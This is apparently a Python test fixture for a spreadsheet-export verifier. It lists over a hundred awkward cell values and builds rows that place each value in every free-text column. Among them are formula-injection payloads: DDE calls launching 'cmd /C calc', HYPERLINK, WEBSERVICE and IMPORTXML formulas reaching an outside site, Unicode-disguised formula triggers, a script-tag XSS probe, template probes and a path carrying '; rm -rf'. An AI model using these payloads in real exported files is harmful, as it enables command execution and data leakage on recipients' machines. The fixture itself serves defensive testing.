"""Cells that spreadsheets run, change or lose, and rows whose every text cell is one of them."""

from collections.abc import Iterator
from types import MappingProxyType
from typing import Any

from tests.exports.materials import rows
from verifier.exports.columns import shape_of
from verifier.exports.rows import Row

CELLS = MappingProxyType(
    {
        "formula": "=1+1",
        "formula with plus": "+1+1",
        "formula with minus": "-1+1",
        "formula with at": "@SUM(A1:A9)",
        "link": '=HYPERLINK("https://e.org/?"&A1,"click")',
        "dde": "=cmd|' /C calc'!A0",
        "dde in Excel": '=DDE("cmd";"/C calc";"x")',
        "dde with plus": "+cmd|' /C calc'!A0",
        "dde with at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "web service": '=WEBSERVICE("https://e.org/")',
        "import": '=IMPORTXML("https://e.org","//a")',
        "array formula": "{=1+1}",
        "full-width formula": "＝1+1",
        "full-width plus": "＋1",
        "full-width minus": "－1",
        "full-width at": "＠SUM(A1)",
        "small formula": "﹦1+1",
        "small plus": "﹢1",
        "small minus": "﹣1",
        "small at": "﹫SUM(A1)",
        "formula after a blank": " =1+1",
        "formula after a tab": "\t=1+1",
        "formula after a return": "\r=1+1",
        "formula after a line end": "\n=1+1",
        "formula after a no-break blank": "\u00a0=1+1",
        "formula after a mark without width": "\u200b=1+1",
        "formula after a byte order mark": "\ufeff=1+1",
        "formula after a direction mark": "\u200f=1+1",
        "formula after a NUL": "\0=1+1",
        "formula after a quote": '"=1+1',
        "formula in quotes": '"=1+1"',
        "formula after an apostrophe": "'=1+1",
        "formula in a second line": "first\n=1+1",
        "formula after a separator": "a,=1+1",
        "formula after a semicolon": "a;=1+1",
        "leading tab": "\tx",
        "leading return": "\rx",
        "a dash": "-",
        "a list": "- first\n- second",
        "negative number": "-12.5",
        "phone number": "+49 30 1234",
        "handle": "@minimax",
        "quote": '"',
        "quotes": 'he said "soon", twice',
        "only quotes": '""""',
        "comma": "a,b,,c",
        "semicolon": "a;b",
        "pipe": "a|b",
        "line end": "a\nb",
        "return": "a\rb",
        "return and line end": "a\r\nb",
        "only line ends": "\n\n",
        "tab inside": "a\tb",
        "line separator": "a\u2028b\u2029c",
        "next line": "a\x85b",
        "vertical tab": "a\x0bb",
        "form feed": "a\x0cb",
        "NUL": "a\0b",
        "bell": "a\x07b",
        "escape": "\x1b[31mred\x1b[0m",
        "delete": "a\x7fb",
        "no character": "a\ufffe\uffffb",
        "high half": "a\ud800b",
        "low half": "\udc00",
        "right to left": "\u202eevil\u202c",
        "isolates": "\u2066a\u2069",
        "Hebrew": "\u05e9\u05dc\u05d5\u05dd abc",
        "byte order mark": "\ufeffa",
        "zero width": "a\u200b\u200db",
        "emoji": "\U0001f600",
        "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "combining": "e\u0301 \u0e01\u0e33",
        "Chinese": "稀宇科技 两周内",
        "blank": " ",
        "blanks around": "  a  ",
        "blanks inside": "a    b",
        "leading zeros": "007",
        "long digits": "12345678901234567890",
        "exponent": "1e5",
        "hexadecimal": "0x1F",
        "decimal comma": "1,5",
        "thousands": "1,234,567",
        "percent": "10%",
        "money": "$5",
        "fraction": "1/2",
        "day and month": "2-Mar",
        "gene": "MARCH1",
        "date": "2025-01-02",
        "American date": "01/02/2025",
        "clock": "12:30",
        "true": "TRUE",
        "false": "false",
        "not available": "#N/A",
        "reference error": "#REF!",
        "NULL": "NULL",
        "nan": "nan",
        "infinity": "inf",
        "address": "https://example.org/?a=1&b=2",
        "script": "<script>alert(1)</script>",
        "entity": "&lt;b&gt; &amp; &#61;1",
        "rich text": "<r><t>=1+1</t></r>",
        "escape of a workbook": "_x000D_ _x0041_",
        "template": "{{7*7}} ${7*7} #{7*7}",
        "path": "..\\..\\x; rm -rf",
        "a cell's length": "x" * 32_767,
        "more than a cell's length": "x" * 40_000,
        "emoji of a cell's length": "\U0001f600" * 20_000,
    }
)
"""What it is -> the cell."""

FREE = tuple(
    column.name
    for column in shape_of(Row)
    if column.holds is str and column.name not in {"claim_id", "permalink"}
)
"""The columns a text from outside can get into."""
_LONG = 1000


def places_of(text: str) -> tuple[str, ...]:
    """Tell which columns a cell is put into: a long one into one, for programs draw it slowly."""
    return ("note",) if len(text) > _LONG else FREE


def hostile_rows() -> Iterator[Row]:
    """Give a row a cell, with that cell in every column it is put into."""
    for number, text in enumerate(CELLS.values()):
        cells: dict[str, Any] = dict.fromkeys(places_of(text), text)
        yield rows()[1]._replace(claim_id=f"claim-{number:03}", **cells)


def whole(text: str) -> str:
    """Give the cell as UTF-8 can hold it."""
    return text.encode("utf-8", "replace").decode()
